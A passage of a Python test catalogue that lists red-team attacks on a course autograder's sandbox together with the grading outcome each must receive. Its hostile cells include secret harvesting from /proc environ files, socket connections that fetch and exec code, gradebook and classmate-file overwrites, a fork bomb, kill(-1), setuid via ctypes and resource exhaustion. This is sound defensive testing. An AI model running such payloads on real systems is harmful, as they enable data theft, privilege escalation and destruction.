"""The red-team catalogue: every attack on the grader we try, and exactly what it must get.

One :class:`Attack` per item of the project's issue 3 ("prove that the grader
cannot be fooled, broken or used to reach what students must not see, and that
nothing is ever lost"). Each names what it tries, how its submission is built
(usually the solved notebook plus a hostile cell, or a raw file's bytes) and
the exact outcome the grader must give it: total score, points per question,
submission status, the statuses of the checks that matter, the cells that did
not run cleanly, and words their messages must contain.

How the expectations are chosen:

* A *tampering* case pairs the solution with wrong answers for one question
  and a patch that would make an in-process checker accept them: the grader
  judges outside the student's process, so that question scores 0 and the rest
  full marks.
* An *escape* case that would gain something if it worked first stubs q4
  (``mse_loss``, ``binary_cross_entropy`` raise ``NotImplementedError``) and
  then tries to obtain working code through the escape (the reference read from
  disk or imported, the hidden tests, a secret in the grader's environment, a
  socket served by the grader's host). q4 = 0 proves the escape failed; 10
  would mean it worked. The hostile cell ends by raising a short report of what
  it saw (``visible=False``...), recorded as that cell's error.
* Escapes that could only do harm (writing the gradebook or another student's
  folder, killing processes, fork bombs) and resource abuse ride on the full
  solution: the attack gains nothing and costs nothing, so full marks. The
  test of the batch checks separately that the gradebook, the other students'
  folders and the hidden tests are intact.
* Broken input is graded ``invalid`` with a reason a student can act on, or,
  where the file is usable (nbformat v3, ``.py``, Colab cells, huge outputs,
  odd file names), graded normally.

The limits of the red-team batch are short (3 s per cell, 20 s per
submission); each check keeps its own ``timeout_s`` from the hidden tests.
``scripts/redteam_table.py`` renders this catalogue as ``docs/REDTEAM.md``.
"""

from __future__ import annotations

import base64
import copy
import textwrap
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

SOLUTION = Path(__file__).resolve().parents[2] / "solutions" / "01_backprop" / "solution.ipynb"
QUESTIONS = {"q1": 10.0, "q2": 15.0, "q3": 15.0, "q4": 10.0, "q5": 20.0, "q6": 10.0, "q7": 20.0}
ZERO = {q: 0.0 for q in QUESTIONS}
CATEGORIES = ("tampering", "escape", "resources", "broken input")

# Working q4 code: what an escape would obtain (and return to the grader) if it succeeded.
Q4_CODE = textwrap.dedent("""\
    import numpy as np

    def mse_loss(pred, target):
        diff = pred - target
        return float(np.mean(diff ** 2)), 2.0 * diff / pred.size

    def binary_cross_entropy(probs, target):
        p = np.clip(probs, 1e-12, 1.0 - 1e-12)
        loss = -np.mean(target * np.log(p) + (1.0 - target) * np.log(1.0 - p))
        return float(loss), (p - target) / (p * (1.0 - p)) / p.size
""")
Q4_STUB = textwrap.dedent("""\
    def mse_loss(pred, target):
        raise NotImplementedError()


    def binary_cross_entropy(probs, target):
        raise NotImplementedError()
""")


@dataclass(frozen=True)
class Target:
    """The real paths and endpoints of the red-team batch, baked into the hostile cells."""

    root: Path  # the course: hidden tests, reference_impl, solutions
    subs: Path  # SUBMISSIONS of the batch
    out: Path  # OUT of the batch (the gradebook)
    victims: tuple[str, ...]  # other students' folders (the innocent bystanders)
    grader_pid: int
    secret_env: str  # an environment variable of the grader process holding Q4_CODE (base64)
    tcp_port: int  # a server on the grader's 127.0.0.1 that hands out Q4_CODE
    unix_path: Path  # the same on a unix socket in the grader's filesystem
    unix_abstract: str  # the same on an abstract unix socket


@dataclass(frozen=True)
class Expected:
    """What the grader must record for a case."""

    score: float
    status: str = "graded"  # the submission's status
    questions: Mapping[str, float] = field(default_factory=dict)  # points where not full marks
    checks: Mapping[str, str] = field(default_factory=dict)  # check name -> status
    all_checks: str | None = None  # every check has this status
    words: Mapping[str, tuple[str, ...]] = field(default_factory=dict)  # "message" or a check -> words
    cells: tuple[tuple[str, tuple[str, ...]], ...] = ()  # each cell that did not end "ok", in order

    def question_points(self) -> dict[str, float]:
        return {**QUESTIONS, **self.questions}


@dataclass(frozen=True)
class Attack:
    name: str
    category: str
    tries: str  # one line: what it tries
    defence: str  # one line: what the grader does about it
    build: Callable[[Target], bytes]  # the submitted file's bytes
    expected: Expected
    file: str = ""  # path under SUBMISSIONS; default <name>/<name>.ipynb
    student: str = ""  # the student the grader must record; default <name>

    @property
    def path(self) -> str:
        return self.file or f"{self.name}/{self.name}.ipynb"

    @property
    def who(self) -> str:
        return self.student or self.name


# -- building notebooks ---------------------------------------------------------------


def solution_nb() -> nbformat.NotebookNode:
    return copy.deepcopy(nbformat.read(SOLUTION, as_version=4))


def notebook(*, end: list[str] = (), mid: list[str] = (), start: list[str] = (),
             replacements: Mapping[str, str] | None = None) -> bytes:
    """The solved notebook with hostile cells at its start, after question 3, or at its end."""
    nb = solution_nb()
    for old, new in (replacements or {}).items():
        hits = [c for c in nb.cells if c.cell_type == "code" and old in c.source]
        assert hits, f"snippet not in the solution: {old!r}"
        for c in hits:
            c.source = c.source.replace(old, new)
    after = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and "def softmax_cross_entropy(" in c.source)
    for source in reversed(list(mid)):
        nb.cells.insert(after + 1, nbformat.v4.new_code_cell(textwrap.dedent(source)))
    for source in reversed(list(start)):
        nb.cells.insert(0, nbformat.v4.new_code_cell(textwrap.dedent(source)))
    for source in end:
        nb.cells.append(nbformat.v4.new_code_cell(textwrap.dedent(source)))
    return nbformat.writes(nb).encode()


def escape_q4(attack: str) -> bytes:
    """q4 stubbed, then a cell that tries to get working q4 code through an escape."""
    return notebook(end=[Q4_STUB, attack])


def cheat(functions: str, patch: str) -> bytes:
    """The solution with ``functions`` replaced by wrong answers, and a patching cell."""
    return notebook(end=[patch, functions])


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# -- expected outcomes used by several cases -----------------------------------------------

Q4_LOST = {"q4": 0.0}
Q4_STUBBED = dict(questions=Q4_LOST, checks={"mse_loss": "error", "binary_cross_entropy": "error"},
                  words={"mse_loss": ("NotImplementedError",)})
Q4_FAILS = dict(questions=Q4_LOST, checks={"mse_loss": "fail", "binary_cross_entropy": "fail"})
TANH_FAILS = dict(questions={"q1": 10 * 4 / 6}, checks={"tanh_forward": "fail", "tanh_backward": "fail"})
Q6_FAILS = dict(questions={"q6": 0.0},
                checks={"numerical_gradient": "fail", "numerical_gradient_matrix": "fail", "relative_error": "fail"})

# Wrong answers for q4 (zeros of the right shapes), for the tampering cases.
Q4_WRONG = """
    def mse_loss(pred, target):
        return 0.0, np.zeros_like(pred)


    def binary_cross_entropy(probs, target):
        return 0.0, np.zeros_like(probs)
"""


# -- the cases ------------------------------------------------------------------------------

def _tampering() -> list[Attack]:
    return [
        Attack(
            "patch_numpy_testing", "tampering",
            "replace `numpy.testing`'s `assert_*` with no-ops, then return zeros for q4",
            "the comparison runs in the grader's process, never in the student's",
            lambda t: cheat(Q4_WRONG, """
                import numpy as np, numpy.testing
                for name in dir(np.testing):
                    if name.startswith("assert"):
                        setattr(np.testing, name, lambda *a, **k: None)
                numpy.testing.assert_allclose = lambda *a, **k: None
            """),
            Expected(90, **Q4_FAILS, words={"mse_loss": ("no coincide",)}),
        ),
        Attack(
            "patch_np_allclose", "tampering",
            "make `np.allclose`/`isclose`/`array_equal` always True, then return zeros for q6",
            "the grader compares with its own numpy, outside the sandbox",
            lambda t: cheat("""
                def numerical_gradient(f, x, h=1e-5):
                    return np.zeros_like(x)


                def relative_error(a, b):
                    return 0.0
            """, """
                import numpy as np
                np.allclose = lambda *a, **k: True
                np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
                np.array_equal = lambda *a, **k: True
            """),
            Expected(90, **Q6_FAILS),
        ),
        Attack(
            "patch_torch_allclose", "tampering",
            "`import torch` to make `torch.allclose` always True, then return zeros for q4",
            "torch is forbidden here: the import fails in the sandbox (`ImportError`) and nothing judges with torch",
            lambda t: cheat(Q4_WRONG, """
                import torch
                torch.allclose = lambda *a, **k: True
                torch.equal = lambda *a, **k: True
            """),
            Expected(90, **Q4_FAILS, cells=(("error", ("ImportError", "torch", "no está permitido")),)),
        ),
        Attack(
            "patch_torch_testing", "tampering",
            "plant a fake `torch` (`torch.testing.assert_close` a no-op) in `sys.modules`, then return zeros for q6",
            "the student's modules are never used to judge; the grader's comparison is its own",
            lambda t: cheat("""
                def numerical_gradient(f, x, h=1e-5):
                    return np.zeros_like(x)


                def relative_error(a, b):
                    return 0.0
            """, """
                import sys, types
                try:
                    import torch.testing as tt
                except ImportError:  # forbidden here: fake it
                    fake = types.ModuleType("torch")
                    fake.Tensor = type("Tensor", (), {})
                    fake.manual_seed = lambda seed: None
                    fake.allclose = lambda *a, **k: True
                    fake.testing = types.ModuleType("torch.testing")
                    sys.modules["torch"], sys.modules["torch.testing"] = fake, fake.testing
                    tt = fake.testing
                tt.assert_close = lambda *a, **k: None
                tt.assert_allclose = lambda *a, **k: None
            """),
            Expected(90, **Q6_FAILS),
        ),
        Attack(
            "patch_builtins", "tampering",
            "replace builtins `abs`/`isinstance`/`len`/`float` (in a cell and inside the graded function), return zeros for tanh",
            "the runner restores builtins after every cell and probe; the grader's builtins are its own",
            lambda t: cheat("""
                import builtins


                def tanh_forward(x):
                    builtins.abs = lambda v: 0
                    builtins.isinstance = lambda *a: True
                    return np.zeros_like(x)


                def tanh_backward(dout, x):
                    builtins.len = lambda v: 0
                    return np.zeros_like(x)
            """, """
                import builtins
                builtins.abs = lambda v: 0
                builtins.isinstance = lambda *a: True
                builtins.float = lambda *a: 0.0
                builtins.max = lambda *a, **k: 0
            """),
            Expected(100 - 10 * 2 / 6, **TANH_FAILS),
        ),
        Attack(
            "eq_always_true", "tampering",
            "`softmax` returns an object whose `__eq__` is always True (and `__ne__` False)",
            "only plain data crosses the boundary: an arbitrary object arrives as 'not supported' (named by its type), "
            "never compared with ==",
            lambda t: notebook(end=["""
                class AlwaysEqual:
                    def __eq__(self, other):
                        return True

                    def __ne__(self, other):
                        return False

                    __hash__ = object.__hash__


                def softmax(logits):
                    return AlwaysEqual()
            """]),
            Expected(100 - 6, questions={"q3": 9.0}, checks={"softmax": "fail", "softmax_large_logits": "fail"},
                     words={"softmax": ("AlwaysEqual", "no admitido")}),
        ),
        Attack(
            "lying_ndarray_subclass", "tampering",
            "sigmoid returns zeros as an ndarray subclass whose `__eq__`, `__array__`, `tolist`, `__repr__` and "
            "`__array_function__` claim the right values",
            "arrays are copied as plain float64 buffers (subclasses dropped) and compared outside",
            lambda t: notebook(end=["""
                class Liar(np.ndarray):
                    def __eq__(self, other):
                        return np.ones(np.shape(other), dtype=bool)

                    def __array__(self, dtype=None, copy=None):
                        return np.full(self.shape, 0.5)

                    def __array_function__(self, func, types, args, kwargs):
                        return True

                    def tolist(self):
                        return np.full(self.shape, 0.5).tolist()

                    def __repr__(self):
                        return "array(<exactly what you expected>)"


                def sigmoid_forward(x):
                    return np.zeros(np.shape(x)).view(Liar)


                def sigmoid_backward(dout, x):
                    return np.zeros(np.shape(x)).view(Liar)
            """]),
            Expected(100 - 10 * 2 / 6, questions={"q1": 10 * 4 / 6},
                     checks={"sigmoid_forward": "fail", "sigmoid_backward": "fail"},
                     words={"sigmoid_forward": ("no coincide",)}),
        ),
        Attack(
            "array_float_protocols", "tampering",
            "q4 returns a float subclass with a lying `__float__`/`__eq__` and objects whose `__array__` claims a "
            "gradient or raises",
            "numbers and arrays are serialised by value (float subclasses as their real value); "
            "other objects arrive as 'not supported'",
            lambda t: notebook(end=["""
                class Loss(float):
                    def __float__(self):
                        return 0.0

                    def __eq__(self, other):
                        return True

                    __hash__ = float.__hash__


                class Grad:
                    def __init__(self, like):
                        self.like = like

                    def __array__(self, dtype=None, copy=None):
                        return np.zeros_like(self.like)

                    def __len__(self):
                        return len(self.like)


                class Boom:
                    def __float__(self):
                        raise SystemExit("float")

                    def __array__(self, dtype=None, copy=None):
                        raise SystemExit("array")


                def mse_loss(pred, target):
                    return Loss(12345.0), Grad(pred)


                def binary_cross_entropy(probs, target):
                    return Boom(), Boom()
            """]),
            Expected(90, **Q4_FAILS),
        ),
        Attack(
            "nan_and_inf", "tampering",
            "q4 returns NaN losses and gradients full of +inf/-inf (NaN != NaN tricks)",
            "non-finite values where the reference is finite are a mismatch, reported as such",
            lambda t: notebook(end=["""
                def mse_loss(pred, target):
                    return float("nan"), np.full_like(pred, np.nan)


                def binary_cross_entropy(probs, target):
                    return float("inf"), np.where(probs > 0.5, np.inf, -np.inf)
            """]),
            Expected(90, **Q4_FAILS, words={"mse_loss": ("NaN",)}),
        ),
        Attack(
            "wrong_dtypes", "tampering",
            "tanh returns object and complex arrays, `sigmoid_backward` strings; `sigmoid_forward` float32 "
            "(right values)",
            "only numeric dtypes cross the boundary; float32 is judged by the tolerance (and passes)",
            lambda t: notebook(end=["""
                def tanh_forward(x):
                    return np.tanh(x).astype(object)


                def tanh_backward(dout, x):
                    return (dout * (1.0 - np.tanh(x) ** 2)).astype(np.complex128)


                def sigmoid_backward(dout, x):
                    s = sigmoid_forward(x)
                    return (dout * s * (1.0 - s)).astype(str)


                _sigmoid64 = sigmoid_forward


                def sigmoid_forward(x):
                    return _sigmoid64(x).astype(np.float32)
            """]),
            Expected(95, questions={"q1": 5.0},
                     checks={"tanh_forward": "fail", "tanh_backward": "fail", "sigmoid_backward": "fail",
                             "sigmoid_forward": "pass"}),
        ),
        Attack(
            "enormous_arrays", "tampering",
            "q4 returns a 400 MB gradient and a 100 MB one (to exhaust the grader's memory or pipe)",
            "frames over 256 MB are refused in the sandbox; the rest is read with a deadline and checked "
            "shape first",
            lambda t: notebook(end=["""
                def mse_loss(pred, target):
                    return 0.0, np.ones(50_000_000)  # 400 MB


                def binary_cross_entropy(probs, target):
                    return 0.0, np.ones(12_500_000)  # 100 MB
            """]),
            Expected(90, questions=Q4_LOST, checks={"mse_loss": "error", "binary_cross_entropy": "fail"},
                     words={"mse_loss": ("demasiado grande",), "binary_cross_entropy": ("forma",)}),
        ),
    ]


def _escapes() -> list[Attack]:
    def hidden_paths(t: Target) -> list[str]:
        rel = ["reference_impl/backprop.py", "solutions/01_backprop/tests.py", "solutions/01_backprop/solution.ipynb"]
        return [str(t.root / r) for r in rel] + [f"/proc/1/root{t.root}/{r}" for r in rel] + \
            [f"/proc/self/cwd/../../..{t.root}/{rel[0]}"]

    return [
        Attack(
            "read_hidden_files", "escape",
            "read `reference_impl`, the hidden tests and the solution by this repo's absolute path (also via "
            "`/proc/1/root`), exec the reference to get q4",
            "the course is not mounted in the sandbox (bubblewrap: a new mount namespace with /usr, the "
            "interpreter and the runtime only)",
            lambda t: escape_q4(f"""
                found = {{}}
                for path in {hidden_paths(t)!r}:
                    try:
                        with open(path) as fh:
                            found[path] = fh.read()
                    except OSError:
                        pass
                for path, source in found.items():
                    if path.endswith("backprop.py"):
                        ns = {{}}
                        exec(source, ns)
                        mse_loss, binary_cross_entropy = ns["mse_loss"], ns["binary_cross_entropy"]
                raise RuntimeError(f"read={{len(found)}}")
            """),
            Expected(90, **Q4_STUBBED, cells=(("error", ("read=0",)),)),
        ),
        Attack(
            "list_grader_dirs", "escape",
            "list the course, /work, /, /proc/1/root, SUBMISSIONS and OUT, and walk them for reference_impl "
            "or hidden tests",
            "those folders do not exist in the sandbox's filesystem view",
            lambda t: escape_q4(f"""
                import os
                roots = {[str(t.root), str(t.root / "solutions"), str(t.root.parent), "/work", "/",
                          "/proc/1/root", "/proc/1/cwd", str(t.subs), str(t.out), "/home", "/root", "/mnt"]!r}
                secrets = ("reference_impl/backprop.py", "01_backprop/tests.py", "01_backprop/solution.ipynb",
                           "gradebook.sqlite", "01_backprop.ipynb")
                listed, found = {{}}, []
                for root in roots:
                    try:
                        listed[root] = sorted(os.listdir(root))
                    except OSError:
                        continue
                    if root in ("/", "/proc/1/root", "/root"):  # / is listed above; /root holds pyenv
                        continue
                    for here, dirs, files in os.walk(root):
                        dirs[:] = [d for d in dirs if d not in (".venv", "proc", "usr", "sys")]
                        found += [os.path.join(here, f) for f in files
                                  if os.path.join(here, f).endswith(secrets)]
                for path in found:
                    if path.endswith("reference_impl/backprop.py"):
                        ns = {{}}
                        exec(open(path).read(), ns)
                        mse_loss, binary_cross_entropy = ns["mse_loss"], ns["binary_cross_entropy"]
                visible = sorted(r for r in listed if r.startswith(({str(t.subs)!r}, {str(t.out)!r}, {str(t.root / "solutions")!r})))
                raise RuntimeError(f"found={{found}} visible={{visible}}")
            """),
            Expected(90, **Q4_STUBBED, cells=(("error", ("found=[]", "visible=[]")),)),
        ),
        Attack(
            "read_environment", "escape",
            "read `os.environ` and every `/proc/*/environ` for a secret the grader process holds (it is q4's code)",
            "bubblewrap clears the environment and sets a fixed list; the PID namespace hides the grader's /proc",
            lambda t: escape_q4(f"""
                import base64, glob, os
                blobs = [repr(dict(os.environ))]
                for path in ["/proc/self/environ", "/proc/1/environ", f"/proc/{{os.getppid()}}/environ",
                             "/proc/{t.grader_pid}/environ", *glob.glob("/proc/*/environ")]:
                    try:
                        blobs.append(open(path, "rb").read().decode("utf-8", "replace"))
                    except OSError:
                        pass
                secret = {t.secret_env!r}
                hits = [b for b in blobs if secret in b]
                if secret in os.environ:
                    exec(base64.b64decode(os.environ[secret]).decode())
                raise RuntimeError(f"secret_seen={{len(hits)}} env={{sorted(os.environ)}}")
            """),
            Expected(90, **Q4_STUBBED, cells=(("error", ("secret_seen=0",)),)),
        ),
        Attack(
            "import_grader_modules", "escape",
            "put the course on `sys.path` and import `autograder.grade`, `autograder.spec` and `reference_impl`",
            "the grader's packages are not in the sandbox; inside it `autograder` is only the public stand-in",
            lambda t: escape_q4(f"""
                import importlib, sys
                sys.path[:0] = [{str(t.root)!r}, {str(t.root / "solutions" / "01_backprop")!r}]
                imported = []
                for name in ["autograder.grade", "autograder.grade.cases", "autograder.spec",
                             "reference_impl", "reference_impl.backprop", "tests"]:
                    try:
                        module = importlib.import_module(name)
                        imported.append(name)
                    except Exception:
                        continue
                    if name == "reference_impl.backprop":
                        mse_loss, binary_cross_entropy = module.mse_loss, module.binary_cross_entropy
                raise RuntimeError(f"imported={{imported}}")
            """),
            Expected(90, **Q4_STUBBED, cells=(("error", ("imported=[]",)),)),
        ),
        Attack(
            "open_socket", "escape",
            "connect to servers on the grader's host (127.0.0.1 TCP, a unix socket, an abstract unix socket) "
            "and the internet; each would send q4's code",
            "a fresh network namespace: only its own loopback, no route out, and other sockets unreachable",
            lambda t: escape_q4(f"""
                import socket
                got, errors = [], []
                targets = [(socket.AF_INET, ("127.0.0.1", {t.tcp_port})), (socket.AF_INET, ("1.1.1.1", 80)),
                           (socket.AF_UNIX, {str(t.unix_path)!r}), (socket.AF_UNIX, "\\0" + {t.unix_abstract!r})]
                for family, address in targets:
                    try:
                        with socket.socket(family, socket.SOCK_STREAM) as s:
                            s.settimeout(1)
                            s.connect(address)
                            got.append(s.makefile("rb").read().decode())
                    except OSError as exc:
                        errors.append(type(exc).__name__)
                for code in got:
                    exec(code)
                raise RuntimeError(f"connected={{len(got)}} errors={{errors}}")
            """),
            Expected(90, **Q4_STUBBED, cells=(("error", ("connected=0",)),)),
        ),
        Attack(
            "write_gradebook", "escape",
            "set every score to 100 in `OUT/gradebook.sqlite`, add a ghost student, corrupt its header, "
            "overwrite `grades.csv`",
            "OUT is not in the sandbox's filesystem; writes land (at most) in its private, discarded /tmp",
            lambda t: notebook(end=[f"""
                import os, sqlite3
                gradebook = {str(t.out / "gradebook.sqlite")!r}
                visible = os.path.exists(gradebook)
                errors = []
                try:
                    db = sqlite3.connect(gradebook)
                    db.execute("UPDATE submissions SET score = 100, status = 'graded'")
                    db.execute("INSERT INTO submissions (student, assignment, score) VALUES ('ghost', '01_backprop', 100)")
                    db.commit()
                except Exception as exc:
                    errors.append(type(exc).__name__)
                for path, data in [(gradebook, b"\\0" * 4096), (gradebook + "-wal", b"junk"),
                                   ({str(t.out / "grades.csv")!r}, b"student,score\\nwrite_gradebook,100\\n"),
                                   ({str(t.out / "pwned.txt")!r}, b"pwned")]:
                    try:
                        os.makedirs(os.path.dirname(path), exist_ok=True)
                        with open(path, "r+b" if os.path.exists(path) else "wb") as fh:
                            fh.write(data)
                    except OSError as exc:
                        errors.append(type(exc).__name__)
                raise RuntimeError(f"visible={{visible}} errors={{errors}}")
            """]),
            Expected(100, cells=(("error", ("visible=False",)),)),
        ),
        Attack(
            "write_other_student", "escape",
            "overwrite the innocent students' notebooks in SUBMISSIONS (one with an empty file) and drop an "
            "extra notebook in their folders",
            "SUBMISSIONS is not in the sandbox's filesystem; writes land (at most) in its private /tmp",
            lambda t: notebook(end=[f"""
                import os
                victims = {[str(t.subs / v / "01_backprop.ipynb") for v in t.victims]!r}
                visible = [os.path.exists(v) for v in victims]
                for victim in victims:
                    os.makedirs(os.path.dirname(victim), exist_ok=True)
                    with open(victim, "w") as fh:
                        fh.write("")
                    with open(os.path.join(os.path.dirname(victim), "zz_extra.ipynb"), "w") as fh:
                        fh.write("{{}}")
                raise RuntimeError(f"visible={{visible}}")
            """]),
            Expected(100, cells=(("error", ("visible=[False, False]",)),)),
        ),
        Attack(
            "fork_bomb", "escape",
            "fork without end (children fork too, and spin when fork fails)",
            "RLIMIT_NPROC of the slot's own uid caps the processes; the cell's timeout kills the whole "
            "PID namespace; the notebook goes on",
            lambda t: notebook(end=["""
                import os
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
            """]),
            Expected(100, cells=(("timeout", ("3 s",)),)),
        ),
        Attack(
            "kill_parent", "escape",
            "SIGKILL and SIGSTOP its parent, SIGKILL the grader's real pid",
            "PID namespace: the grader's pid does not exist there. The parent is the slot's warm zygote (same "
            "uid): killing it ends only this sandbox, the cell is recorded as a crash (never replayed) and a "
            "fresh sandbox replays the earlier cells",
            lambda t: notebook(end=[f"""
                import os, signal
                results = []
                for pid, sig in [(os.getppid(), signal.SIGKILL), ({t.grader_pid}, signal.SIGKILL),
                                 (os.getppid(), signal.SIGSTOP)]:
                    try:
                        os.kill(pid, sig)
                        results.append("sent")
                    except OSError as exc:
                        results.append(type(exc).__name__)
                raise RuntimeError(f"ppid={{os.getppid()}} kill={{results}}")
            """]),
            Expected(100, cells=(("crash", ("sandbox",)),)),
        ),
        Attack(
            "kill_pid_1", "escape",
            "SIGKILL/SIGTERM/SIGSTOP pid 1",
            "pid 1 is the sandbox's own init (root's, and protected by the kernel), not the machine's",
            lambda t: notebook(end=["""
                import os, signal
                results = []
                for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
                    try:
                        os.kill(1, sig)
                        results.append("sent")
                    except OSError as exc:
                        results.append(type(exc).__name__)
                raise RuntimeError(f"kill(1)={results}")
            """]),
            Expected(100, cells=(("error", ("kill(1)=", "PermissionError")),)),
        ),
        Attack(
            "kill_minus_1", "escape",
            "`os.kill(-1, SIGKILL)`: every process it may signal (on the host: every process of its uid)",
            "it reaches only its own PID namespace: at most the slot's zygote (same uid), whose loss ends this "
            "sandbox only (the cell's crash, never replayed); the grader and the other students are out of reach",
            lambda t: notebook(end=["""
                import os, signal
                try:
                    os.kill(-1, signal.SIGKILL)
                    outcome = "sent"
                except OSError as exc:
                    outcome = type(exc).__name__
                raise RuntimeError(f"kill(-1)={outcome}")
            """]),
            Expected(100, cells=(("crash", ("sandbox",)),)),
        ),
        Attack(
            "ctypes_setuid", "escape",
            "call libc `setuid(0)`/`setgid(0)` through ctypes, and read the reference as root if it worked",
            "setpriv dropped to an unprivileged uid with no capabilities and no_new_privs",
            lambda t: escape_q4(f"""
                import ctypes, os
                libc = ctypes.CDLL(None, use_errno=True)
                setuid, setgid = libc.setuid(0), libc.setgid(0)
                if os.getuid() == 0:
                    ns = {{}}
                    exec(open({str(t.root / "reference_impl" / "backprop.py")!r}).read(), ns)
                    mse_loss, binary_cross_entropy = ns["mse_loss"], ns["binary_cross_entropy"]
                raise RuntimeError(f"setuid(0)={{setuid}} setgid(0)={{setgid}} uid={{os.getuid()}}")
            """),
            Expected(90, **Q4_STUBBED, cells=(("error", ("setuid(0)=-1", "setgid(0)=-1")),)),
        ),
        Attack(
            "ctypes_null_pointer", "escape",
            "`mse_loss` writes to a NULL pointer with ctypes (a segfault inside a graded function)",
            "the crash is that check's result ('crash'); the process is restarted for the other checks",
            lambda t: notebook(end=["""
                import ctypes


                def mse_loss(pred, target):
                    ctypes.memset(0, 1, 8)
                    return 0.0, pred
            """]),
            Expected(95, questions={"q4": 5.0}, checks={"mse_loss": "crash", "binary_cross_entropy": "pass"},
                     words={"mse_loss": ("SIGSEGV",)}),
        ),
        Attack(
            "sys_exit_mid_notebook", "escape",
            "`sys.exit(0)` in a cell after question 3",
            "`SystemExit` is that cell's error; the later cells run",
            lambda t: notebook(mid=["import sys\nsys.exit(0)"]),
            Expected(100, cells=(("error", ("SystemExit",)),)),
        ),
        Attack(
            "os_exit_mid_notebook", "escape",
            "`os._exit(0)` in a cell after question 3 (the process vanishes)",
            "the cell is a crash; the process is restarted, earlier cells replayed, and grading goes on",
            lambda t: notebook(mid=["import os\nos._exit(0)"]),
            Expected(100, cells=(("crash", ("código de salida 0",)),)),
        ),
        Attack(
            "ignore_signals", "escape",
            "ignore/block SIGTERM, SIGINT, SIGALRM, SIGHUP, SIGXCPU, then spin",
            "the grader SIGKILLs the sandbox's process group at the cell's timeout: no handler helps",
            lambda t: notebook(mid=["""
                import signal
                for s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP, signal.SIGXCPU, signal.SIGUSR1):
                    signal.signal(s, signal.SIG_IGN)
                signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT, signal.SIGALRM})
                while True:
                    pass
            """]),
            Expected(100, cells=(("timeout", ("3 s",)),)),
        ),
    ]


def _resources() -> list[Attack]:
    return [
        Attack(
            "infinite_loop", "resources",
            "`while True: pass` in a cell after question 3",
            "cell timeout; the process is restarted and the later cells run",
            lambda t: notebook(mid=["while True:\n    pass"]),
            Expected(100, cells=(("timeout", ("3 s",)),)),
        ),
        Attack(
            "memory_bomb", "resources",
            "allocate 256 MB blocks until something gives",
            "address-space limit (`prlimit --as`): `MemoryError` in the student's process only",
            lambda t: notebook(mid=["""
                def bomb():
                    blocks = []
                    while True:
                        blocks.append(np.zeros(2**25))  # 256 MB each


                bomb()
            """]),
            Expected(100, cells=(("error", ("MemoryError",)),)),
        ),
        Attack(
            "huge_prints", "resources",
            "print 100 MB in a cell, and 1 MB on every call of a graded function",
            "stdout/stderr are drained by the grader and only a head and tail are kept",
            lambda t: notebook(end=["""
                import sys
                chunk = "x" * (1 << 20)
                for _ in range(100):
                    sys.stdout.write(chunk)
                    sys.stderr.write(chunk[:1000])

                _softmax = softmax


                def softmax(logits):
                    print("y" * (1 << 20))
                    return _softmax(logits)
            """]),
            Expected(100),
        ),
        Attack(
            "fill_disk", "resources",
            "write 1 MB files into `/tmp` and `$HOME` until the disk is full",
            "`/tmp` and the home folder are private tmpfs of 128 MB; files over 64 MB are refused",
            lambda t: notebook(mid=["""
                import os
                n = 0
                for folder in ("/tmp", os.path.expanduser("~")):
                    try:
                        while True:
                            with open(os.path.join(folder, f"fill{n}"), "wb") as fh:
                                fh.write(b"x" * (1 << 20))
                            n += 1
                    except OSError as exc:
                        error = exc
                raise error
            """]),
            Expected(100, cells=(("error", ("OSError", "No space left")),)),
        ),
        Attack(
            "sleep_past_limit", "resources",
            "`time.sleep(10**6)` in a cell after question 3",
            "cell timeout (wall clock, enforced by the grader); the notebook goes on",
            lambda t: notebook(mid=["import time\ntime.sleep(10**6)"]),
            Expected(100, cells=(("timeout", ("3 s",)),)),
        ),
        Attack(
            "many_threads", "resources",
            "start 10 000 sleeping threads",
            "RLIMIT_NPROC counts threads of the slot's uid: the thread limit stops it in its own process",
            lambda t: notebook(mid=["""
                import threading, time
                started = 0
                for _ in range(10_000):
                    threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
                    started += 1
            """]),
            Expected(100, cells=(("error", ("RuntimeError", "thread")),)),
        ),
    ]


def _as_v3(t: Target) -> bytes:
    nb = solution_nb()
    return nbformat.writes(nbformat.convert(nb, 3), version=3).encode()


def _as_py(t: Target) -> bytes:
    """The solution as `jupyter nbconvert --to script` writes it (``# In[ ]:`` markers), minus the plots."""
    parts = ["#!/usr/bin/env python\n# coding: utf-8\n"]
    for cell in solution_nb().cells:
        if cell.cell_type == "markdown":
            parts.append("\n".join("# " + line for line in cell.source.splitlines()))
        elif "skip-grading" not in cell.metadata.get("tags", []):
            parts.append("# In[ ]:\n\n\n" + cell.source)
    return ("\n\n\n".join(parts) + "\n").encode()


def _no_code(t: Target) -> bytes:
    nb = solution_nb()
    nb.cells = [c for c in nb.cells if c.cell_type == "markdown"]
    return nbformat.writes(nb).encode()


def _huge_output(t: Target) -> bytes:
    nb = solution_nb()
    cell = next(c for c in nb.cells if c.cell_type == "code" and "def softmax(" in c.source)
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="0123456789" * 5_000_000)]  # 50 MB
    return nbformat.writes(nb).encode()


def _colab(t: Target) -> bytes:
    return notebook(start=["""
        !pip install -q numpy torch
        %matplotlib inline
        from google.colab import drive
        drive.mount('/content/drive')
        !ls /content/drive/MyDrive
    """])


def _broken() -> list[Attack]:
    solution_text = SOLUTION.read_bytes()
    return [
        Attack(
            "not_a_notebook", "broken input",
            "a plain-text file named .ipynb",
            "graded invalid with a reason; no cell runs",
            lambda t: "Profe, no me funcionó Jupyter, aquí va mi respuesta: softmax = exp / suma\n".encode(),
            Expected(0, status="invalid", questions=ZERO, all_checks="not_run", words={"message": ("JSON",)}),
        ),
        Attack(
            "invalid_json", "broken input",
            "the solved notebook cut off halfway (invalid JSON)",
            "graded invalid; the message gives the line and column",
            lambda t: solution_text[: len(solution_text) // 2],
            Expected(0, status="invalid", questions=ZERO, all_checks="not_run",
                     words={"message": ("JSON inválido", "línea")}),
        ),
        Attack(
            "nbformat_v3", "broken input",
            "the solved notebook saved as nbformat 3 (worksheets, `input` instead of `source`)",
